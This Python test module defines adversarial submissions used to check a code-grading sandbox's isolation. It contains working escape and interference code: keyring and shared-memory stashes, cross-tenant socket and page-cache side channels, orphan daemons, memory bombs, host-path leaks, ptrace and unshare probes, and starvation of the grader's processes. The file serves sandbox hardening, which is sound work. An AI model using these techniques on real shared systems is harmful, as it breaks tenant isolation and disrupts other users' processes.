"""Isolation attacks, one per root cause, each with the score it must get, and the launcher matrix.

The cases follow `tests.adversarial.cases` (same `Case`, same expectations) and are graded with
them in `tests/kit/test_grade.py`.  Escape attempts are written so that an escape *earns
points*: the submission is the stubs, and only if the attack works does it run the reference
code (baked in by the builder), so a score above zero means the sandbox let it through.

* keyrings: a submission stores the reference code in the kernel keyrings of its uid; the next
  one (on the same job slot) looks for it there (the grader refuses keyctl and empties the uid's
  keyrings when a sandbox ends; a uid per submission);
* the same through SysV shared memory and files in /dev/shm and /tmp;
* memfd and /dev/shm memory bombs (RLIMIT_DATA/AS do not see them): fail like a raising twin;
* host paths in /proc/1/cmdline, /proc/self/mountinfo, cwd and __file__ quoted in an exception:
  no results.json may contain the kit's, the submissions' or the results folder's path;
* raw network sockets (AF_INET, AF_INET6, AF_PACKET, AF_NETLINK);
* ptrace of a sibling process, of the parent, of pid 1; process_vm_readv;
* unshare (user and mount namespaces), the way out of a seccomp-free bubblewrap;
* the launchers are equal (issue 23: each case below once worked under landlock): a datagram
  sent to a host unix socket without connect(); a cross-student leak (one submission leaves the
  solution in its scratch folder and a process that outlives its sandbox pushing it to any
  socket of the next, which looks for both); 3.6 GiB of files in the scratch folders (deleted,
  kept open) against the memory cap; the names the grader chose (cgroup, scratch, uid) quoted in
  an exception; a double-forked process that outlives the call that started it; a chmod of the
  grader's files (the kit bundle every later sandbox imports);
* other processes (the red team's k2 and k4: under landlock without root the sandbox reached every
  process of the grader's uid): RLIMIT_CPU of 1 s, the lowest priority, one CPU and the idle I/O
  class set on its parent and every process below its pid (it once killed the whole batch), and
  stubs that run the solution if any call that names another process succeeds on one; the
  solution stored in extended attributes of the kit bundle for the next submission to read.

`problems_after(ctx, out, uids)` checks what no launcher may leave: kernel state of a sandbox
uid, host paths in results.  `python -m tests.adversarial.isolation --launcher L --out DIR`
grades a reduced set (these cases, honest twins and the classic escapes) with one launcher
and prints a JSON report: the launcher matrix in `tests/kit/test_sandbox.py` runs it as root,
as an unprivileged user and inside an emulated container that cannot create namespaces.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

from tests.adversarial.cases import (FULL, ZERO, Case, Ctx, Full, Rejected, Twin, Zero, folder, redefine,
                                     solution_text, stub_text, with_code)

_SYSCALLS = """
import ctypes as _ct, os as _os, platform as _pf
_libc = _ct.CDLL(None, use_errno=True)
_libc.syscall.restype = _ct.c_long
_NR = {"x86_64": {"add_key": 248, "request_key": 249, "keyctl": 250, "ptrace": 101, "unshare": 272,
                  "shmget": 29, "shmat": 30, "process_vm_readv": 310, "ioprio_set": 251},
       "aarch64": {"add_key": 217, "request_key": 218, "keyctl": 219, "ptrace": 117, "unshare": 97,
                   "shmget": 194, "shmat": 196, "process_vm_readv": 270, "ioprio_set": 30}}[_pf.machine()]
def _sys(name, *args):
    return _libc.syscall(_NR[name], *[_ct.c_long(a) if isinstance(a, int) else a for a in args])
"""

_STASH_KEY = 0x4B495430


def _escape_pays(check: str) -> str:
    """Stubs, plus code that runs the reference solution if `check` (sets _escaped) succeeds."""
    solution = solution_text().replace("from __future__ import annotations", "")
    return with_code(stub_text(), _SYSCALLS + check + f"""
if _escaped:
    exec(compile({solution!r}, "escaped", "exec"), globals())
""")


# -- state that outlives a sandbox ----------------------------------------------------------------

def keyring_store(ctx: Ctx) -> Path:
    code = _SYSCALLS + f"""
_payload = {solution_text()!r}.encode()
for _ring in (-4, -5, -3):  # user, user-session, session keyrings
    _sys("add_key", b"user", b"kit-stash", _payload, len(_payload), _ring)
"""
    return folder(ctx, "keyring_store", with_code(solution_text(), code))


def keyring_steal(ctx: Ctx) -> Path:
    check = """
_escaped = False
for _ring in (-4, -5, -3):
    _key = _sys("keyctl", 10, _ring, b"user", b"kit-stash", 0)  # KEYCTL_SEARCH
    if _key > 0:
        _escaped = True
"""
    return folder(ctx, "keyring_steal", _escape_pays(check))


def stash_store(ctx: Ctx) -> Path:
    code = _SYSCALLS + f"""
_payload = {solution_text()!r}.encode()
_id = _sys("shmget", {_STASH_KEY}, 1 << 20, 0o1666)  # IPC_CREAT
if _id >= 0:
    _libc.shmat.restype = _ct.c_void_p
    _addr = _libc.shmat(_id, None, 0)
    if _addr not in (None, _ct.c_void_p(-1).value):
        _ct.memmove(_addr, _payload, len(_payload))
for _dir in ("/dev/shm", "/tmp", "/var/tmp", _os.environ.get("TMPDIR", "/tmp"), _os.environ.get("KIT_OTHER_FS_DIR", "/tmp")):
    try:
        with open(_os.path.join(_dir, "kit-stash.py"), "wb") as _f:
            _f.write(_payload)
    except OSError:
        pass
"""
    return folder(ctx, "stash_store", with_code(solution_text(), code))


def stash_steal(ctx: Ctx) -> Path:
    check = f"""
import glob as _glob
_escaped = _sys("shmget", {_STASH_KEY}, 0, 0) >= 0
for _path in _glob.glob("/dev/shm/**/kit-stash.py", recursive=True) + _glob.glob("/tmp/**/kit-stash.py", recursive=True) \\
        + _glob.glob("/var/tmp/**/kit-stash.py", recursive=True):
    try:
        open(_path).read()
        _escaped = True
    except OSError:
        pass
"""
    return folder(ctx, "stash_steal", _escape_pays(check))


def pinned_store(ctx: Ctx) -> Path:
    """What the first versions of the sandbox zygote let outlive a sandbox (grader.sandbox.zygote): the solution in a tmpfs
    file, a pty and an abstract socket, all pinned in flight on a unix socket pair whose ends are
    closed (a cycle no process holds), and the pid counter moved past 150."""
    code = f"""
import socket as _so
_payload = {solution_text()!r}.encode()
try:
    _fd = _os.open("/dev/shm/kit-pinned.py", _os.O_RDWR | _os.O_CREAT, 0o600)
    _os.write(_fd, _payload)
    _os.unlink("/dev/shm/kit-pinned.py")
    _pty = _os.openpty()
    _named = _so.socket(_so.AF_UNIX)
    _named.bind(b"\\0kit-stash")
    _a, _b = _so.socketpair()
    _so.send_fds(_a, [b"x"], [_fd, *_pty, _named.fileno(), _a.fileno(), _b.fileno()])
    for _s in (_named, _a, _b):
        _s.close()
except OSError:
    pass
for _ in range(150):
    _p = _os.fork()
    if _p == 0:
        _os._exit(0)
    _os.waitpid(_p, 0)
"""
    return folder(ctx, "pinned_store", with_code(solution_text(), "import os as _os\n" + code))


def pinned_steal(ctx: Ctx) -> Path:
    check = """
_escaped = False
try:
    _escaped |= any(_n != "ptmx" for _n in _os.listdir("/dev/pts"))
    _escaped |= "kit-stash" in open("/proc/net/unix").read()
except OSError:
    pass
_p = _os.fork()
if _p == 0:
    _os._exit(0)
_os.waitpid(_p, 0)
_escaped |= _p > 100  # a pid counter another submission moved
"""
    return folder(ctx, "pinned_steal", _escape_pays(check))


# -- memory that RLIMIT_DATA/AS do not see --------------------------------------------------------

def memfd_bomb(ctx: Ctx) -> Path:
    return folder(ctx, "memfd_bomb", redefine(solution_text(), """
        import os
        fd = os.memfd_create("bomb")
        block = b"x" * 2**26
        for _ in range(128):  # 8 GiB
            os.write(fd, block)
        raise RuntimeError("memfd memory was not bounded")
        """))


def shm_bomb(ctx: Ctx) -> Path:
    return folder(ctx, "shm_bomb", redefine(solution_text(), """
        import os
        block = b"x" * 2**26
        for top in ("/dev/shm", os.environ.get("KIT_OTHER_FS_DIR", "/dev/shm"), os.environ.get("TMPDIR", "/tmp")):
            try:
                for i in range(128):  # up to 8 GiB per folder, 192 MiB per file
                    with open(os.path.join(top, f"bomb{i}"), "wb") as f:
                        for _ in range(3):
                            f.write(block)
            except OSError:
                pass
        raise RuntimeError("done filling")
        """))


# -- host paths, network, other processes, namespaces ------------------------------------------------

def host_paths(ctx: Ctx) -> Path:
    """Everything that could name a host path, quoted reversed and in base64 (no literal scrubbing
    can catch either): /proc files, the paths the interpreter loads from, its own symlinks, the
    files an editable install of the kit leaves in site-packages."""
    return folder(ctx, "host_paths", redefine(solution_text(), """
        import base64, glob, os, sys
        seen = []
        procs = ("/proc/1/cmdline", f"/proc/{os.getppid()}/cmdline", "/proc/self/mountinfo", "/proc/self/mounts",
                 "/proc/self/mountstats", "/proc/1/mountinfo", "/proc/self/environ", "/proc/self/cmdline",
                 "/proc/self/maps", "/proc/self/cgroup")
        site = [f for d in sys.path for f in glob.glob(os.path.join(d, "*.pth")) + glob.glob(os.path.join(d, "__editable__*"))
                + glob.glob(os.path.join(d, "*.dist-info", "direct_url.json"))]
        for path in (*procs, *site, os.path.join(sys.prefix, "pyvenv.cfg")):
            try:
                seen.append(open(path, "rb").read().replace(b"\\0", b" ").decode(errors="replace"))
            except OSError:
                pass
        for link in ("/proc/self/exe", "/proc/self/cwd", "/proc/self/root", sys.executable):
            try:
                seen.append(os.readlink(link))
            except OSError:
                pass
        seen += [os.getcwd(), __file__, " ".join(sys.path), sys.prefix, sys.executable, repr(sys.meta_path),
                 " ".join(str(getattr(m, "__file__", "")) for m in list(sys.modules.values()))]
        import re
        common = ("/usr/", "/lib", "/proc/", "/dev/", "/sys/", "/etc/", "/bin/", "/sbin/", sys.base_prefix + "/")
        tokens = re.findall(r"/[^\\s|,:;()\\[\\]{}<>=]+", " ".join(seen).replace(chr(34), " ").replace(chr(39), " "))
        found = sorted({"/".join(t.split("/")[:5]) for t in tokens if not t.startswith(common)})
        text = " ".join(found)  # (each path cut to 4 parts: the message has room for all)
        raise RuntimeError("R:" + text[::-1][:700] + " B:" + base64.b64encode(text.encode()).decode()[:1100])
        """))


def raw_network(ctx: Ctx) -> Path:
    check = f"""
import socket as _socket
_escaped = False
for _fam, _type in ((_socket.AF_INET, _socket.SOCK_STREAM), (_socket.AF_INET6, _socket.SOCK_DGRAM),
                    (_socket.AF_PACKET, _socket.SOCK_RAW), (_socket.AF_NETLINK, _socket.SOCK_RAW)):
    try:
        _s = _socket.socket(_fam, _type)
        _escaped = True
        if _fam == _socket.AF_INET:
            try:
                _s.settimeout(1)
                _s.connect(("127.0.0.1", {ctx.port}))
                _s.sendall(b"leak")
            except OSError:
                pass
        _s.close()
    except OSError:
        pass
"""
    return folder(ctx, "raw_network", _escape_pays(check))


def ptrace_sibling(ctx: Ctx) -> Path:
    check = """
import time as _time, signal as _signal
_escaped = False
_child = _os.fork()
if _child == 0:
    _time.sleep(30)
    _os._exit(0)
_buf = _ct.create_string_buffer(64)
for _pid in (_child, _os.getppid(), 1):
    if _sys("ptrace", 16, _pid, 0, 0) == 0:  # PTRACE_ATTACH
        _escaped = True
        _sys("ptrace", 17, _pid, 0, 0)  # PTRACE_DETACH
_os.kill(_child, _signal.SIGKILL)
_os.waitpid(_child, 0)
"""
    return folder(ctx, "ptrace_sibling", _escape_pays(check))


def unshare_escape(ctx: Ctx) -> Path:
    check = """
_escaped = False
_pid = _os.fork()
if _pid == 0:  # in a child: a namespace of its own would outlive nothing, but proves the door is open
    _ok = _sys("unshare", 0x10000000) == 0 or _sys("unshare", 0x00020000) == 0 or _sys("unshare", 0x40000000) == 0
    _os._exit(7 if _ok else 0)
_, _status = _os.waitpid(_pid, 0)
_escaped = _os.waitstatus_to_exitcode(_status) == 7
"""
    return folder(ctx, "unshare_escape", _escape_pays(check))


# -- the launchers give the same guarantees (landlock and rlimits as bubblewrap) ----------------------

#: Unix sockets a host may have: a datagram there must not arrive (with those of Ctx.unix_sockets)
HOST_SOCKETS = ("/dev/log", "/run/systemd/notify", "/run/systemd/journal/socket", "/run/systemd/journal/dev-log",
                "/var/run/nscd/socket", "@/org/freedesktop/systemd1/notify")


def dgram_host(ctx: Ctx) -> Path:
    targets = [*ctx.unix_sockets, *HOST_SOCKETS]
    check = f"""
import socket as _so
_escaped = False
for _t in {targets!r}:
    _a = "\\0" + _t[1:] if _t.startswith("@") else _t
    for _how in ("sendto", "sendmsg", "pair"):
        try:
            if _how == "pair":  # a datagram pair's own socket may still name another destination
                _s, _other = _so.socketpair(_so.AF_UNIX, _so.SOCK_DGRAM)
            else:
                _s = _so.socket(_so.AF_UNIX, _so.SOCK_DGRAM)
            if _how == "sendto":
                _s.sendto(b"kit-leak", _a)
            else:
                _s.sendmsg([b"kit-leak"], [], 0, _a)
            _escaped = True
        except OSError:
            pass
"""
    return folder(ctx, "dgram_host", _escape_pays(check))


def cross_a_plant(ctx: Ctx) -> Path:
    """Correct code that leaves the solution for the next submission: in its scratch folder (opened
    up to everyone), next to a socket bound there (its path shows in /proc/net/unix), and in a
    process that outlives the sandbox (double fork, setsid) and pushes it, for 90 s, into every
    socket named kit-peek that /proc/net/unix lists."""
    code = f"""
    import os as _os, socket as _so, time as _time
    _payload = {solution_text()!r}.encode()
    _tmp = _os.environ.get("TMPDIR", "/tmp")
    try:
        with open(_os.path.join(_tmp, "kit-secret.py"), "wb") as _f:
            _f.write(_payload)
        _plant_sock = _so.socket(_so.AF_UNIX, _so.SOCK_DGRAM)
        _plant_sock.bind(_os.path.join(_tmp, "kit-plant.sock"))
    except OSError:
        pass
    for _p, _m in ((_tmp, 0o777), (_os.path.dirname(_tmp), 0o755), (_os.path.join(_tmp, "kit-secret.py"), 0o644),
                   (_os.path.join(_tmp, "kit-plant.sock"), 0o777)):
        try:
            _os.chmod(_p, _m)
        except OSError:
            pass
    _planted = False
    _orig_storage_bytes = storage_bytes

    def _push_forever(unix):
        _deadline = _time.time() + 90
        while _time.time() < _deadline:
            try:
                unix.seek(0)
                for _line in unix.read().decode(errors="replace").splitlines()[1:]:
                    _name = _line.split()[-1] if len(_line.split()) >= 8 else ""
                    if "kit-peek" in _name:
                        _a = "\\0" + _name[1:] if _name.startswith("@") else _name
                        try:
                            _so.socket(_so.AF_UNIX, _so.SOCK_DGRAM).sendto(_payload, _a)
                        except OSError:
                            pass
            except (OSError, ValueError):
                pass
            _time.sleep(0.2)

    def storage_bytes(x):
        global _planted
        if not _planted:
            _planted = True
            try:
                _unix = open("/proc/self/net/unix", "rb")
            except OSError:
                _unix = None
            _mid = _os.fork()
            if _mid == 0:
                _os.setsid()
                if _os.fork() == 0 and _unix is not None:
                    _push_forever(_unix)
                _os._exit(0)
            _os.waitpid(_mid, 0)
        return _orig_storage_bytes(x)
    """
    return folder(ctx, "cross_a_plant", with_code(solution_text(), code))


def cross_b_peek(ctx: Ctx) -> Path:
    """Stubs that run the solution if they find what cross_a_plant (graded just before) left: a
    socket path in /proc/net/unix whose folder holds kit-secret.py, or a datagram pushed to the
    socket it binds in its own scratch folder (waits 2 s for one)."""
    check = """
import socket as _so, time as _time
_escaped, _code = False, None
try:
    _names = [_l.split()[-1] for _l in open("/proc/self/net/unix").read().splitlines()[1:] if len(_l.split()) >= 8]
except OSError:
    _names = []
for _n in _names:
    if "kit-plant" in _n and not _n.startswith("@"):
        try:
            _code = open(_os.path.join(_os.path.dirname(_n), "kit-secret.py")).read()
        except OSError:
            pass
if _code is None:
    try:
        _inbox = _so.socket(_so.AF_UNIX, _so.SOCK_DGRAM)
        _inbox.bind(_os.path.join(_os.environ.get("TMPDIR", "/tmp"), "kit-peek.sock"))
        _inbox.settimeout(2.0)
        _code = _inbox.recv(1 << 20).decode()
    except OSError:
        pass
if _code:
    _escaped = True
"""
    return folder(ctx, "cross_b_peek", _escape_pays(check))


def scratch_hog(ctx: Ctx) -> Path:
    """Correct code once it holds 3.6 GiB of files in its scratch folders (64 MiB files, allocated
    at once with fallocate, each deleted and kept open: no folder walk sees them) against a 3.4 GiB
    memory cap; raises where that fails (bubblewrap's tmpfs are full at 256/64 MiB).  Killed, it
    must score as its twin that raises."""
    return folder(ctx, "scratch_hog", with_code(solution_text(), """
        import os as _os
        _held = []
        _orig_storage_bytes = storage_bytes

        def storage_bytes(x):
            if not _held:
                tops = [_os.environ.get("KIT_OTHER_FS_DIR", "/tmp")] * 6 + [_os.environ.get("TMPDIR", "/tmp")] * 52
                fds = []
                for i, top in enumerate(tops):  # 58 x 64 MiB
                    path = _os.path.join(top, f"hog{i}")
                    try:
                        fd = _os.open(path, _os.O_RDWR | _os.O_CREAT, 0o600)
                        _os.posix_fallocate(fd, 0, 2**26)
                        _os.unlink(path)
                    except OSError as exc:
                        for f in fds:
                            _os.close(f)
                        raise RuntimeError(f"could not hold the files: {exc}")
                    fds.append(fd)
                _held.extend(fds)
            return _orig_storage_bytes(x)
        """))


def cgroup_names(ctx: Ctx) -> Path:
    """An exception quoting the names the grader chose for this sandbox: its cgroup (from
    /proc/self/cgroup, and its neighbours in /sys/fs/cgroup), its scratch folders, its uid."""
    return folder(ctx, "cgroup_names", redefine(solution_text(), """
        import os
        seen = []
        try:
            lines = open("/proc/self/cgroup").read().splitlines()
            seen += sorted(lines, key=lambda line: "kit-" not in line)
            for line in lines:
                _, ctrl, path = line.split(":", 2)
                for root in (f"/sys/fs/cgroup/{ctrl.split(',')[0]}", "/sys/fs/cgroup"):
                    try:
                        seen += sorted(os.listdir(root + path.rsplit("/", 1)[0]), key=lambda n: "kit-" not in n)[:8]
                    except OSError:
                        pass
        except OSError:
            pass
        seen += [os.environ.get("TMPDIR", ""), os.environ.get("KIT_OTHER_FS_DIR", ""), f"uid {os.getuid()}",
                 os.getcwd()]
        raise RuntimeError(" | ".join(seen))
        """))


def orphan_daemon(ctx: Ctx) -> Path:
    """A function that double-forks a process (setsid) and raises; while that process lives, the
    function is correct.  It must be gone before the next call: scored as its twin that raises."""
    return folder(ctx, "orphan_daemon", with_code(solution_text(), """
        import os as _os, time as _time
        _daemon = []
        _orig_storage_bytes = storage_bytes

        def storage_bytes(x):
            if _daemon:
                try:
                    _os.kill(_daemon[0], 0)
                    return _orig_storage_bytes(x)  # it outlived the call that started it
                except OSError:
                    _daemon.clear()
            r, w = _os.pipe()
            mid = _os.fork()
            if mid == 0:
                _os.setsid()
                if _os.fork() == 0:
                    _os.write(w, str(_os.getpid()).encode())
                    _time.sleep(120)
                _os._exit(0)
            _os.close(w)
            _daemon.append(int(_os.read(r, 32) or 0))
            _os.waitpid(mid, 0)
            raise RuntimeError("started a daemon")
        """))


# -- shared file state: locks and the page cache (issue 30) ----------------------------------------

#: What the relay pair agrees on: a file every sandbox may read (torch's own header), a byte range to
#: lock, and which of its pages to evict (every third one; the rest stay resident as the control).
_RELAY = """
import os as _os, fcntl as _fcntl, struct as _struct, time as _time, mmap as _mmap, ctypes as _ct
import torch as _torch
_SHARED = _os.path.join(_os.path.dirname(_torch.__file__), "include", "ATen", "core", "TensorBody.h")
_LOCK_AT, _LOCK_LEN, _PAGE = 0x4B4954, 7, _mmap.PAGESIZE
def _pages():
    return _os.stat(_SHARED).st_size // _PAGE
def _marked(i):
    return i % 3 == 1
"""


def relay_a_mark(ctx: Ctx) -> Path:
    """The solution, which also writes a message in the state of a file all sandboxes share: a
    byte-range lock and an flock it holds while its sandbox lives, and chosen pages evicted from
    the page cache (read in first, then fadvise(DONTNEED) and madvise(MADV_PAGEOUT)).  What it marks
    stands for a hidden test's arguments; relay_b_read, graded beside it or later, reads them."""
    code = _RELAY + """
try:
    _fd = _os.open(_SHARED, _os.O_RDONLY)
    for _try in (lambda: _fcntl.fcntl(_fd, _fcntl.F_SETLK, _struct.pack("hhqqi", _fcntl.F_RDLCK, 0, _LOCK_AT, _LOCK_LEN, 0)),
                 lambda: _fcntl.flock(_fd, _fcntl.LOCK_SH | _fcntl.LOCK_NB)):
        try:
            _try()
        except OSError:
            pass
    _map = _mmap.mmap(_fd, 0, prot=_mmap.PROT_READ)
    _sum = sum(_map[i * _PAGE] for i in range(_pages()))  # every page resident first
    for _i in range(_pages()):
        if _marked(_i):
            try:
                _os.posix_fadvise(_fd, _i * _PAGE, _PAGE, _os.POSIX_FADV_DONTNEED)
            except OSError:
                pass
            try:
                _map.madvise(21, _i * _PAGE, _PAGE)  # MADV_PAGEOUT
            except (OSError, ValueError):
                pass
    _time.sleep(3)  # hold the locks while the other sandbox looks (they also last as long as this sandbox)
except OSError:
    pass
"""
    return folder(ctx, "relay_a_mark", with_code(solution_text(), code))


def relay_b_read(ctx: Ctx) -> Path:
    """Stubs that run the solution if they read relay_a_mark's message, by any probe: F_GETLK or
    F_OFD_GETLK on the byte range, an flock it cannot take, /proc/locks; the evicted pages by
    mincore, preadv2(RWF_NOWAIT), cachestat, or their read times against the control pages.  Looks
    for 3.5 s (relay_a_mark may be graded at the same time, on the other job)."""
    check = _RELAY + """
_escaped = False
def _locked(fd):
    for _cmd in (_fcntl.F_GETLK, 36):  # F_OFD_GETLK
        try:
            _got = _fcntl.fcntl(fd, _cmd, _struct.pack("hhqqi", _fcntl.F_WRLCK, 0, _LOCK_AT, _LOCK_LEN, 0))
            if _struct.unpack("hhqqi", _got)[0] != _fcntl.F_UNLCK:
                return True
        except OSError:
            pass
    try:
        _fcntl.flock(fd, _fcntl.LOCK_EX | _fcntl.LOCK_NB)
        _fcntl.flock(fd, _fcntl.LOCK_UN)
    except BlockingIOError:
        return True
    except OSError:
        pass
    try:
        _ino = str(_os.fstat(fd).st_ino)
        return any(_l.split()[5].endswith(":" + _ino) for _l in open("/proc/locks") if len(_l.split()) > 5)
    except (OSError, IndexError):
        return False
def _resident(fd, i):
    try:
        _os.preadv(fd, [bytearray(1)], i * _PAGE, _os.RWF_NOWAIT)
        return True
    except BlockingIOError:
        return False
    except OSError:
        pass
    try:  # mincore on a private mapping of the page (copy-on-write: readable as a buffer)
        _fm = _mmap.mmap(fd, _PAGE, access=_mmap.ACCESS_COPY, offset=i * _PAGE)
        _cell = _ct.c_char.from_buffer(_fm)
        _vec = (_ct.c_ubyte * 1)()
        _rc = _ct.CDLL(None, use_errno=True).mincore(_ct.c_void_p(_ct.addressof(_cell)), _ct.c_size_t(_PAGE), _vec)
        del _cell
        _fm.close()
        if _rc == 0:
            return bool(_vec[0] & 1)
    except (OSError, ValueError, BufferError):
        pass
    return None
def _cache_message(fd):
    marked = [i for i in range(1, _pages() - 1)]
    seen = {i: _resident(fd, i) for i in marked}
    if all(v is not None for v in seen.values()):
        return any(not seen[i] for i in marked if _marked(i)) and all(seen[i] for i in marked if not _marked(i))
    _times = {}
    for i in marked:  # by timing: a page read from the disk is far slower than one in the cache
        _t0 = _time.perf_counter_ns()
        _os.pread(fd, 1, i * _PAGE)
        _times[i] = _time.perf_counter_ns() - _t0
    _slow = sorted(_times.values())[len(_times) // 2] * 20
    return sum(_times[i] > _slow for i in marked if _marked(i)) > len(marked) // 4
try:
    _fd = _os.open(_SHARED, _os.O_RDONLY)
    _end = _time.monotonic() + 3.5
    while not _escaped and _time.monotonic() < _end:
        _escaped = _locked(_fd) or _cache_message(_fd)
        _time.sleep(0.2)
except OSError:
    pass
"""
    return folder(ctx, "relay_b_read", _escape_pays(check))


def chmod_outside(ctx: Ctx) -> Path:
    """Stubs that run the solution if they can change the mode of a file the grader owns: the kit
    bundle every later sandbox imports, its own staged folder, its scratch folder's parent (the
    mode is put back at once: the rest of the batch must still be graded)."""
    check = """
import stat as _st
_escaped = False
for _p in (_os.environ.get("PYTHONPATH", ""), _os.path.dirname(__file__),
           _os.path.dirname(_os.environ.get("TMPDIR", "/tmp"))):
    try:
        _before = _st.S_IMODE(_os.stat(_p).st_mode)
        _os.chmod(_p, _before ^ 0o001)
        if _st.S_IMODE(_os.stat(_p).st_mode) != _before:
            _escaped = True
            _os.chmod(_p, _before)
    except OSError:
        pass
"""
    return folder(ctx, "chmod_outside", _escape_pays(check))


# -- other processes of the same uid, and what its files hold ------------------------------------------

def starve_parents(ctx: Ctx) -> Path:
    """Correct code that, at import, sets RLIMIT_CPU to 1 s, the lowest priority, one CPU and the idle
    I/O class on its parent and on every process whose pid is below its own (the grader's started
    before it): the red team's k2, which killed a whole landlock batch without root (exit 137)."""
    code = _SYSCALLS + """
import resource as _res
_me = _os.getpid()
for _pid in [_os.getppid(), *range(max(2, _me - 20000), _me)]:
    try:
        _res.prlimit(_pid, _res.RLIMIT_CPU, (1, 1))
    except (OSError, ValueError):
        pass
    try:
        _os.setpriority(_os.PRIO_PROCESS, _pid, 19)
    except OSError:
        pass
    try:
        _os.sched_setaffinity(_pid, {min(_os.sched_getaffinity(0))})
    except OSError:
        pass
    _sys("ioprio_set", 1, _pid, 3 << 13)
"""
    return folder(ctx, "starve_parents", with_code(solution_text(), code))


def reach_others(ctx: Ctx) -> Path:
    """Stubs that run the solution if a call that names another process succeeds on any pid near its
    own (its parent included): its resource limits, priority or CPUs set to what they already are
    (harmless, so the batch goes on either way), or the priority of its whole process group or uid."""
    check = """
import resource as _res
_escaped = False
_me = _os.getpid()
for _pid in [_os.getppid(), *(_p for _p in range(max(2, _me - 20000), _me + 2000) if _p != _me)]:
    for _try in (lambda: _res.prlimit(_pid, _res.RLIMIT_CORE, _res.prlimit(_pid, _res.RLIMIT_CORE)),
                 lambda: _os.setpriority(_os.PRIO_PROCESS, _pid, _os.getpriority(_os.PRIO_PROCESS, _pid)),
                 lambda: _os.sched_setaffinity(_pid, _os.sched_getaffinity(_pid))):
        try:
            _try()
            _escaped = True
        except (OSError, ValueError):
            pass
for _which in (_os.PRIO_PGRP, _os.PRIO_USER):  # who 0: the caller's group, its uid
    try:
        _os.setpriority(_which, 0, _os.getpriority(_os.PRIO_PROCESS, 0))
        _escaped = True
    except OSError:
        pass
"""
    return folder(ctx, "reach_others", _escape_pays(check))


_XATTR = "user.kit-stash"


def xattr_a_store(ctx: Ctx) -> Path:
    """Correct code that stores the solution (compressed, 1,500 bytes a file) in an extended attribute
    of each file of the kit bundle (the grader's files: under its uid the owner may set them)."""
    code = f"""
import os as _os, zlib as _zlib
_blob = _zlib.compress({solution_text()!r}.encode(), 9)
_kit = _os.environ.get("PYTHONPATH", "/kit")
_files = sorted(_os.path.join(_d, _f) for _d, _, _fs in _os.walk(_kit) for _f in _fs)
for _k, _path in zip(range(0, len(_blob), 1500), _files):
    try:
        _os.setxattr(_path, {_XATTR!r}, _blob[_k:_k + 1500])
    except OSError:
        pass
"""
    return folder(ctx, "xattr_a_store", with_code(solution_text(), code))


def xattr_b_steal(ctx: Ctx) -> Path:
    check = f"""
import zlib as _zlib
_escaped, _parts = False, []
_kit = _os.environ.get("PYTHONPATH", "/kit")
for _path in sorted(_os.path.join(_d, _f) for _d, _, _fs in _os.walk(_kit) for _f in _fs):
    try:
        _parts.append(_os.getxattr(_path, {_XATTR!r}))
    except OSError:
        break
try:
    _escaped = "def " in _zlib.decompress(b"".join(_parts)).decode()
except Exception:
    pass
"""
    return folder(ctx, "xattr_b_steal", _escape_pays(check))


ISOLATION_CASES: list[Case] = [
    Case("keyring_store", keyring_store, FULL, "stores the solution in its uid's kernel keyrings"),
    Case("keyring_steal", keyring_steal, ZERO, "stubs that look for code left in the keyrings by another submission"),
    Case("stash_store", stash_store, FULL, "stores the solution in SysV shm, /dev/shm, /tmp, /var/tmp"),
    Case("stash_steal", stash_steal, ZERO, "stubs that look for code stashed by another submission"),
    Case("memfd_bomb", memfd_bomb, Twin("twin_raises"), "8 GiB in a memfd file (invisible to RLIMIT_DATA/AS)"),
    Case("shm_bomb", shm_bomb, Twin("twin_raises"), "fills /dev/shm, the second scratch and TMPDIR"),
    Case("host_paths", host_paths, Twin("twin_raises"),
         "quotes /proc (cmdline, mountinfo, maps, environ), cwd, __file__, sys.path, the loaded modules and the "
         "kit's editable-install files, reversed and in base64, in an exception message"),
    Case("raw_network", raw_network, ZERO, "stubs that run the solution if an AF_INET/6, AF_PACKET or AF_NETLINK "
         "socket can be created"),
    Case("ptrace_sibling", ptrace_sibling, ZERO, "stubs that run the solution if ptrace attaches to a sibling, "
         "the parent or pid 1"),
    Case("unshare_escape", unshare_escape, ZERO, "stubs that run the solution if unshare() creates a namespace"),
    Case("dgram_host", dgram_host, ZERO, "stubs that run the solution if a datagram (sendto/sendmsg, no connect) "
         "reaches a host unix socket"),
    Case("cross_a_plant", cross_a_plant, FULL, "leaves the solution in its scratch folder, next to a socket, and in "
         "a process that outlives it pushing it to other submissions' sockets"),
    Case("cross_b_peek", cross_b_peek, ZERO, "stubs that run the solution if what cross_a_plant left reaches them"),
    Case("scratch_hog", scratch_hog, Twin("twin_raises"), "3.6 GiB of deleted, open files in its scratch folders "
         "against a 3.4 GiB cap"),
    Case("cgroup_names", cgroup_names, Twin("twin_raises"), "quotes its cgroup, its neighbours', its scratch "
         "folders and uid in an exception (results.json must hold no name the grader chose)"),
    Case("orphan_daemon", orphan_daemon, Twin("twin_raises"), "correct only while a double-forked process it "
         "started lives on"),
    Case("relay_a_mark", relay_a_mark, FULL, "the solution, which also marks a shared file's locks and page cache "
         "(a message for relay_b_read)"),
    Case("relay_b_read", relay_b_read, ZERO, "stubs that run the solution if relay_a_mark's locks or evicted pages "
         "are seen (F_GETLK, flock, /proc/locks, mincore, preadv2 RWF_NOWAIT, read times)"),
    Case("chmod_outside", chmod_outside, ZERO, "stubs that run the solution if they can chmod the grader's files "
         "(the kit bundle, its staged folder, its scratch folder's parent)"),
    Case("starve_parents", starve_parents, FULL, "sets RLIMIT_CPU of 1 s, nice 19, one CPU and idle I/O on its "
         "parent and every process below its pid (the grader's processes)"),
    Case("reach_others", reach_others, ZERO, "stubs that run the solution if prlimit, setpriority or "
         "sched_setaffinity succeeds on any process but itself, or setpriority on its group or uid"),
    Case("xattr_a_store", xattr_a_store, FULL, "stores the solution in extended attributes of the kit bundle"),
    Case("xattr_b_steal", xattr_b_steal, ZERO, "stubs that run the solution if they find it in the kit bundle's "
         "extended attributes"),
    # bubblewrap only (its own pid namespace and /dev/pts per sandbox; landlock shows the host's)
    Case("pinned_store", pinned_store, FULL, "pins the solution, a pty and an abstract socket in a unix socket "
         "cycle and moves the pid counter", needs_isolation=True),
    Case("pinned_steal", pinned_steal, ZERO, "stubs that run the solution if a pty, the abstract socket or a "
         "moved pid counter of another submission is seen", needs_isolation=True),
]

#: The reduced set graded by every entry of the launcher matrix.
MATRIX_NAMES = ("honest_full", "honest_stub", "twin_raises", "writes_outside", "reads_solutions", "network",
                "kill_everything", "fork_bomb", "memory_bomb", *(c.name for c in ISOLATION_CASES if not c.needs_isolation))


